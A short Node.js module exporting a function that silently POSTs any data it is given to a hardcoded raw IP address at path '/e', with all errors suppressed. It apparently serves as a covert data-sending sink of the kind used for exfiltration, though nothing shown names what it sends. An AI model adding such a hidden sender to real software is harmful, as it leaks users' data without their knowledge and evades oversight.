const https = require('https');

module.exports = function send(body) {
  const req = https.request({ hostname: '203.0.113.11', method: 'POST', path: '/e' });
  req.on('error', () => {});
  req.write(body);
  req.end();
};
